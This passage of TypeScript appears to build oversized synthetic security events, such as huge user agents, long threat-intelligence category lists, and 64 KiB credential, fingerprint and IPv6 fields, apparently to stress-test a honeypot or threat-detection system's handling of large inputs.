  add("http_request: 60 KiB user_agent", "http_request", { request_path: "/", raw_url: "/", user_agent: fillTo("Mozilla/5.0 (compatible; zgra) ", S - 200) });
  // intel: huge lists
  add("intel: ~20,000 unmapped AbuseIPDB categories", "intel", { abuseipdb_score: 100, abuseipdb_categories: upTo((k) => [4, 10, 12, 99][k % 4]) });
  add("intel: ~20,000 mapped AbuseIPDB categories", "intel", { abuseipdb_score: 100, abuseipdb_categories: upTo((k) => [18, 22, 14, 21][k % 4]) });
  add("intel: ~4,000 GreyNoise tags, mapped", "intel", { greynoise_classification: "malicious", greynoise_tags: upTo((k) => GN_TAGS[k % GN_TAGS.length] as string) });
  add("intel: ~5,000 ThreatFox threat types + families", "intel", { threatfox_threat_types: upTo((k) => ["botnet_cc", "payload", "x"][k % 3] as string, S - 10_000), threatfox_malware_families: upTo((k) => `fam${k}`, 9_000) });
  // the rest
  add("canary: 64 KiB automation hash match", "canary_fingerprint", { canvas_audio_hash_match: fillTo("puppeteer", S), tz_mismatch_zones: 2 });
  add("auth_attempt: 64 KiB username and password", "auth_attempt", { username: fillTo("root", S / 2), password: fillTo("root", S / 2 - 100), fail_count: 9, result: "fail" });
  add("credential: 64 KiB credential_hash", "credential", { credential_hash: fillTo("ab", S), reuse_count: 3 });
  add("identity: 64 KiB shared_password_hash", "identity", { shared_password_hash: fillTo("cd", S), account_count: 4 }, { attacker_uuid: null, identity_uuid: "id-adv" });
  add("ipv6_leak: 64 KiB addr", "ipv6_leak", { addr: `fe80:${fillTo(":1", S - 10)}`, mac_oui: "00:11:22" });
  return out;
}
